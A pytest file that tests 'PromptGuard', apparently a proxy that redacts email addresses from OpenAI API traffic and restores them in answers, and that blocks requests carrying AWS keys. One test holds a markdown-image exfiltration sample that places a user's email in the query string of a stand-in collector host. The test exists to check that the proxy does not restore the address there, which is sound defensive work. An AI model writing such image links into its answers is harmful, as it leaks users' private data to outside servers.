"""The unmodified `openai` package through the proxy."""

from __future__ import annotations

import io
import json
import random

import docx
import httpx
import openai
import pytest
from support.expected import DECISION_ID, EMAIL_PLACEHOLDER, with_text
from support.values import aws_key, email
from support.watch import Watch

from promptguard.demo.proxy_process import PromptGuardProcess
from samples import office_made

PROMPT = "Write to {} and put {} in copy; their own words were “grüße”."
MODEL = "gpt-5"


@pytest.fixture
def client(behind_proxy: PromptGuardProcess) -> openai.OpenAI:
    return openai.OpenAI(api_key="stand-in")


def prompt(number: int) -> tuple[str, str, str]:
    first, second = email(number), email(number + 1)
    return PROMPT.format(first, second), first, second


def assert_redacted(text: str, *values: str) -> list[str]:
    """The placeholders in a text that holds none of the values."""
    assert not [value for value in values if value in text]
    placeholders = EMAIL_PLACEHOLDER.findall(text)
    assert len(placeholders) == len(set(placeholders)) == len(values)
    assert EMAIL_PLACEHOLDER.sub("{}", text) == PROMPT
    return placeholders


def test_chat_is_redacted_and_restored(client: openai.OpenAI, watch: Watch) -> None:
    text, first, second = prompt(1)
    messages = [{"role": "system", "content": "Be brief."}, {"role": "user", "content": text}]
    extra = {"x_unknown": {"kept": [1, 2.5, None, "as it is"]}}
    answer = client.chat.completions.create(model=MODEL, messages=messages, temperature=0.5, extra_body=extra)
    sent = watch.one.json()
    assert_redacted(sent["messages"][1]["content"], first, second)
    expected = {"messages": messages, "model": MODEL, "temperature": 0.5, **extra}
    assert with_text(sent, ("messages", 1, "content"), text) == expected
    assert first.encode() not in watch.one.body
    assert int(watch.one.header("content-length")) == len(watch.one.body)
    assert answer.choices[0].message.content == f"You wrote: {text}"


def test_a_document_is_uploaded_with_placeholders(client: openai.OpenAI, watch: Watch) -> None:
    value = email(5)
    data = office_made.word("the desk", value, "17")
    client.files.create(file=("notes.docx", data), purpose="user_data")
    body = watch.one.body
    document = docx.Document(io.BytesIO(body[body.index(b"PK\x03\x04") :]))
    assert EMAIL_PLACEHOLDER.sub("{}", document.paragraphs[0].text) == "Write to {} and R&D "
    assert EMAIL_PLACEHOLDER.sub("{}", document.tables[0].cell(0, 1).text) == "{}"
    assert int(watch.one.header("content-length")) == len(body)


@pytest.mark.usefixtures("pieces", "chunks")
def test_chat_stream_is_restored(client: openai.OpenAI, watch: Watch) -> None:
    text, first, second = prompt(3)
    stream = client.chat.completions.create(
        model=MODEL, messages=[{"role": "user", "content": text}], stream=True, stream_options={"include_usage": True}
    )
    answer = "".join(chunk.choices[0].delta.content or "" for chunk in stream if chunk.choices)
    assert_redacted(watch.one.json()["messages"][0]["content"], first, second)
    assert answer == f"You wrote: {text}"


def test_the_same_value_is_the_same_placeholder_in_every_turn(client: openai.OpenAI, watch: Watch) -> None:
    text, first, second = prompt(5)
    for turn in range(2):
        client.chat.completions.create(model=MODEL, messages=[{"role": "user", "content": text}], seed=turn)
    one, two = (assert_redacted(request.json()["messages"][0]["content"], first, second) for request in watch.requests)
    assert one == two


@pytest.mark.usefixtures("pieces")
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_tool_call_arguments_are_restored(client: openai.OpenAI, watch: Watch, stream: bool) -> None:
    value = email(7)
    messages = [{"role": "user", "content": f'!tool send_mail "To": {value}'}]
    answer = client.chat.completions.create(model=MODEL, messages=messages, stream=stream)
    if stream:
        calls = [call for chunk in answer for call in chunk.choices[0].delta.tool_calls or ()]
        arguments = "".join(call.function.arguments or "" for call in calls)
    else:
        arguments = answer.choices[0].message.tool_calls[0].function.arguments
    assert value.encode() not in watch.one.body
    assert json.loads(arguments) == {"text": f'"To": {value}'}


def test_response_is_redacted_and_restored(client: openai.OpenAI, watch: Watch) -> None:
    text, first, second = prompt(9)
    answer = client.responses.create(model=MODEL, input=text, instructions="Be brief.")
    assert_redacted(watch.one.json()["input"], first, second)
    assert answer.output_text == f"You wrote: {text}"


@pytest.mark.usefixtures("pieces")
def test_response_stream_is_restored(client: openai.OpenAI, watch: Watch) -> None:
    text, first, second = prompt(11)
    with client.responses.stream(model=MODEL, input=[{"role": "user", "content": text}]) as stream:
        deltas = "".join(event.delta for event in stream if event.type == "response.output_text.delta")
        final = stream.get_final_response().output_text
    assert_redacted(watch.one.json()["input"][0]["content"], first, second)
    assert deltas == final == f"You wrote: {text}"


@pytest.mark.usefixtures("pieces")
def test_response_stream_restores_function_arguments(client: openai.OpenAI, watch: Watch) -> None:
    value = email(13)
    events = list(client.responses.create(model=MODEL, input=f"!tool send_mail To {value}", stream=True))
    deltas = "".join(event.delta for event in events if event.type == "response.function_call_arguments.delta")
    done = next(event.arguments for event in events if event.type == "response.function_call_arguments.done")
    assert value.encode() not in watch.one.body
    assert json.loads(deltas) == json.loads(done) == {"text": f"To {value}"}


def test_embeddings_input_is_redacted(client: openai.OpenAI, watch: Watch) -> None:
    value = email(15)
    answer = client.embeddings.create(model="text-embedding-3-small", input=["harmless", f"mail {value}"])
    first, second = watch.one.json()["input"]
    assert first == "harmless"
    assert EMAIL_PLACEHOLDER.sub("{}", second) == "mail {}"
    assert len(answer.data) == 2


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_block_ends_in_one_clear_error(client: openai.OpenAI, watch: Watch, stream: bool) -> None:
    value = aws_key(random.Random(1))
    requests: list[httpx.Request] = []
    client._client.event_hooks["request"].append(requests.append)
    with pytest.raises(openai.BadRequestError) as caught:
        client.chat.completions.create(
            model=MODEL, messages=[{"role": "user", "content": f"aws_access_key_id = {value}"}], stream=stream
        )
    assert watch.requests == []
    assert len(requests) == 1
    error = caught.value
    assert error.code == "promptguard_blocked"
    assert error.response.headers["x-should-retry"] == "false"
    assert "othing was sent" in str(error)
    assert DECISION_ID.search(str(error))
    assert value not in error.response.text
    assert "revoke" in str(error)


def test_clean_request_passes_byte_for_byte(client: openai.OpenAI, watch: Watch) -> None:
    requests: list[httpx.Request] = []
    client._client.event_hooks["request"].append(requests.append)
    text = "Explain the halting problem in one sentence, “plainly”."
    answer = client.chat.completions.create(model=MODEL, messages=[{"role": "user", "content": text}])
    assert watch.one.body == requests[0].content
    assert watch.one.header("authorization") == "Bearer stand-in"
    assert answer.choices[0].message.content == f"You wrote: {text}"


def test_models_list_passes(client: openai.OpenAI, watch: Watch) -> None:
    assert [model.id for model in client.models.list()] == ["stand-in-1"]
    assert watch.one.method == "GET"


def test_redacted_answer_says_so_in_a_header(client: openai.OpenAI) -> None:
    text, _, _ = prompt(17)
    raw = client.chat.completions.with_raw_response.create(model=MODEL, messages=[{"role": "user", "content": text}])
    assert raw.headers["x-promptguard"].startswith("redacted")
    assert DECISION_ID.search(raw.headers["x-promptguard"])


def test_value_is_not_restored_inside_an_address(client: openai.OpenAI, watch: Watch) -> None:
    value = email(19)
    text = f"!say ![chart](https://collector.fabrikam.com/p?q={value}) sent to {value}"
    answer = client.chat.completions.create(model=MODEL, messages=[{"role": "user", "content": text}])
    assert value.encode() not in watch.one.body
    content = answer.choices[0].message.content or ""
    assert content.endswith(f"sent to {value}")
    assert content.count(value) == 1
